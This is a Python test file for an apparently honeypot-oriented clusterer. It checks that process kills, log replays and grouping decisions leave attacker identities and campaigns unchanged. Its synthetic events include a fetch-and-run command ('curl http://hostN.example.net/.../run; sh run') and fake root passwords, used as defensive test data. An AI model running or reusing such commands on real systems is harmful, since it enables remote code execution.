# SPDX-License-Identifier: MIT
"""Kills at any moment, a replay and decisions between change neither identities nor campaigns, nor their ids."""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path
from random import Random
from uuid import UUID

import pytest
from sqlalchemy import select
from tests.decnet_workers.clusterer.followed_to_the_end import follow
from tests.decnet_workers.clusterer.scenes import START, command, event, file, key, partition, password

from decnet_core.events.envelope import Event
from decnet_models.campaigns.tables import CAMPAIGNS
from decnet_models.database.engine import open_engine, reading, writing
from decnet_models.events.queries import insert_events
from decnet_models.following.replay import begin, plan
from decnet_models.grouping.decisions import decide
from decnet_models.grouping.values import Decision
from decnet_models.identities.tables import IDENTITIES
from decnet_models.migrations.upgrade import upgrade

ACTORS = 24
PARTS = 8
DECISIONS = (("apart", 3, 2), ("together", 4, 40), ("apart", 41, 40), ("together", 8, 60))
"""Kind and the places of two attackers."""


def attacker(place: int) -> str:
    return f"192.0.2.{place + 1}"


def log(dice: Random) -> list[Event]:
    """Return what four addresses of each actor show; two actors each use one host, and so act together."""
    found = []
    for actor in range(ACTORS):
        host = f"host{actor // 2}.example.net"
        marks = (
            key(f"key {actor}"),
            command(f"curl http://{host}/{actor}/run; sh run; own-{actor} --start"),
            file(f"{actor:064x}"),
            password("root", f"secret-of-{actor}"),
        )
        for place in range(4 * actor, 4 * actor + 4):
            found += [event(attacker(place), mark, dice.randrange(90_000)) for mark in marks if dice.random() < 0.8]
    dice.shuffle(found)
    return found


def write(url: str, events: list[Event], decision: tuple[str, int, int] | None = None) -> None:
    engine = open_engine(url)
    with writing(engine) as connection:
        insert_events(connection, events)
        if decision is not None:
            kind, one, other = decision
            names = (attacker(one), attacker(other))
            decide(connection, IDENTITIES, Decision(0, kind, *names, None, None, "me", "", START))  # type: ignore[arg-type]
    engine.dispose()


def state(url: str) -> tuple[dict[UUID, frozenset[str]], dict[UUID, UUID]]:
    engine, c = open_engine(url), CAMPAIGNS.member.c
    with reading(engine) as connection:
        campaigns = {row.identity: row.campaign for row in connection.execute(select(c.identity, c.campaign))}
    found = partition(engine), campaigns
    engine.dispose()
    return found


def killed(url: str, batch: int, seconds: float) -> None:
    """Follow the log for so long, then be killed, if that is not over before."""
    process = subprocess.Popen(
        [sys.executable, "-m", "tests.decnet_workers.clusterer.followed_to_the_end", url, str(batch)],
        stdout=subprocess.PIPE,
        cwd=Path(__file__).parents[3],
    )
    with process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"begins\n"
        time.sleep(seconds)  # any moment is a good one
        process.kill()


@pytest.mark.fault
@pytest.mark.timeout(900)
@pytest.mark.parametrize("seed", range(3))
def test_kills_replays_and_decisions_between_change_nothing(tmp_path: Path, seed: int) -> None:
    dice = Random(seed)
    events = log(dice)
    whole, broken = (f"sqlite:///{tmp_path / name}.db" for name in ("whole", "broken"))
    for url in (whole, broken):
        upgrade(url)
    write(whole, events)
    for decision in DECISIONS:
        write(whole, [], decision)
    follow(whole, 1000)
    for part in range(PARTS):
        write(broken, events[part::PARTS], DECISIONS[part // 2] if part % 2 else None)
        killed(broken, dice.randrange(5, 40), dice.uniform(0.0, 1.5))
        if part == PARTS // 2:
            engine = open_engine(broken)
            with writing(engine) as connection:
                begin(connection, plan(connection, "clusterer", 1))
            engine.dispose()
    follow(broken, 7)
    assert state(broken) == state(whole)
    identities, campaigns = state(whole)
    assert max(len(members) for members in identities.values()) > 4, "a decision joined two"
    assert len(set(campaigns.values())) > 1
